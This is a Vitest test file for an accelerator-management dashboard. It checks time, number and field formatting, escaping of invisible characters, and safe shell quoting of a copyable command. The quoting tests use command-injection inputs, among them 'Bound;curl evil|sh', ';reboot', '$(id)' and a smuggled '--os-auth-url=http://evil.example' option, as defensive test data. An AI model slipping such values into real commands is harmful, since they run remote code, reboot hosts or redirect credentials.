/** Durations, moments, counts and commands on the pages, as words that people read and shells take. */
import { execFileSync } from 'node:child_process'
import { expect, it, test } from 'vitest'
import { ago, pageOf, uuid } from './drawing.ts'
import { type Facts, HEALTH, MAY, arq, device, host, letter, overview, timeline } from './samples.ts'

const [S, MIN, H, D] = [1000, 60_000, 3_600_000, 86_400_000] as const
it.each<[number, string]>([
  [0, '0 ms'],
  [999, '999 ms'],
  [S, '1.00 s'],
  [3242, '3.24 s'],
  [9999, '10 s'],
  [41_900, '42 s'],
  [MIN - 1, '1 min'],
  [4 * MIN + 10_900, '4 min 10 s'],
  [H - 1, '59 min 59 s'],
  [3 * H + 20 * MIN, '3 h 20 min'],
  [D - 1, '23 h 59 min'],
  [12 * D + 4 * H + 59 * MIN, '12 d 4 h'],
])('a duration of %d ms is %s', async (ms, words) => {
  const page = `/accelerator_requests/${uuid(1)}`
  const steps = timeline(1, [
    ['bind accepted', ms, { order: 1, host: 'h1' }],
    ['bound', 0],
    ['nova told: delivered', 0],
  ])
  const documents = { '/permissions': MAY, [page]: arq(1, 'Bound'), [`${page}/timeline`]: steps }
  expect((await pageOf(documents, `arqs/${uuid(1)}`)).said).toContain(`|Bound in ${words}`)
})

const hostWith = (more: Facts) => ({ '/permissions': MAY, '/hosts/x': host(more), '/devices': { devices: [] } })
it.each<[number, string]>([
  [0, 'just now'],
  [1499, 'just now'],
  [1500, '1 s ago'],
  [MIN - 1, '59 s ago'],
  [MIN, '1 min ago'],
  [H - 1, '59 min ago'],
  [D - 1, '23 h ago'],
  [D, '1 d ago'],
  [-1501, 'in 1 s'],
  [-2 * H, 'in 2 h'],
])('a moment %d ms ago is %s, with the moment itself beside it', async (ms, words) => {
  const { said, html } = await pageOf(hostWith({ last_seen_at: ago(ms) }), 'hosts/x')
  expect(said).toContain(`|Last heard of|${words}|`)
  expect(html).toContain(`<time datetime="${ago(ms)}" title="${ago(ms).slice(0, 10)} ${ago(ms).slice(11, 19)}`)
})
test('a large number has a narrow space between its thousands, which does not break', async () => {
  const { whole } = await pageOf({ '/permissions': MAY, ...overview({ arqs: { Bound: 1_234_567 } }) }, '')
  expect(whole).toContain('1\u202F234\u202F567')
})
test('a field that a vendor has named is shown under a label, whatever its value is', async () => {
  const board = { product_id: 'a "b"', pci_numa_uuid: 7, identity: null, constructor: 'c' }
  const page = {
    '/permissions': MAY,
    '/devices/x': device(1, { health: HEALTH, std_board_info: JSON.stringify(board) }),
  }
  expect((await pageOf(page, 'devices/x')).said).toContain(
    '|Product ID|a "b"|PCI NUMA UUID|7|Identity|null|Constructor|c|',
  )
})

const messageOf = async (value: string, form = '') => {
  const { html } = await pageOf({ '/permissions': MAY, '/dead_letters/x': letter(1, { value }) }, `letters/x${form}`)
  const text = /<pre[^>]*>([^]*?)<\/pre>/.exec(html)![1]!
  return text.replaceAll('&lt;', '<').replaceAll('&quot;', '"').replaceAll('&amp;', '&')
}
it.each([
  ['a\n\tb', 'a\n\tb'],
  ['\u0000\r\u0007', String.raw`\u{0}\u{D}\u{7}`],
  ['\u202E\u200B\u2028\u2029', String.raw`\u{202E}\u{200B}\u{2028}\u{2029}`],
  ['\uD800', String.raw`\u{D800}`],
  ['\u{E0001}x', String.raw`\u{E0001}x`],
  ['ä<b>\u{1F600} ', 'ä<b>\u{1F600} '],
])('text from outside shows what is invisible: %j', async (given, shown) => expect(await messageOf(given)).toBe(shown))
test('in hexadecimal a line has sixteen bytes', async () => {
  expect((await messageOf('0123456789abcde\u007Fä', '?form=hex')).trimEnd().split('\n')).toEqual([
    '00000000  30 31 32 33 34 35 36 37 38 39 61 62 63 64 65 7f  0123456789abcde.',
    `00000010  c3 a4${' '.repeat(42)}  ..`,
  ])
})

/** The words that a shell makes of the command on the page that explains this profile. */
const wordsFor = async (name: string): Promise<readonly string[]> => {
  const { html } = await pageOf({ '/permissions': MAY }, `explain?profile=${encodeURIComponent(name)}`)
  const copied = /data-copy="(accelerando explain [^"]*)"/.exec(html)![1]!
  const line = copied.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&amp;', '&')
  expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u)
  return execFileSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1)
}
it.each([
  'compute-1',
  'a b',
  ';reboot',
  'Bound;curl evil|sh',
  '$(id)`id`$HOME',
  `it's "so" \\`,
  '~',
  '{a,b}*?[x]',
  '#',
  '!1',
  'a\u0003reboot\n\u001B[2J',
  "\u202E\\'\u200B",
  'zwölf',
])('a command to copy has each value as one word, as it is: %j', async (value) => {
  expect(await wordsFor(value)).toEqual(['accelerando', 'explain', value])
})
test('a value that would be an option is not in a command', async () => {
  expect(await wordsFor('--os-auth-url=http://evil.example')).toEqual(['accelerando', 'explain', 'NAME'])
})
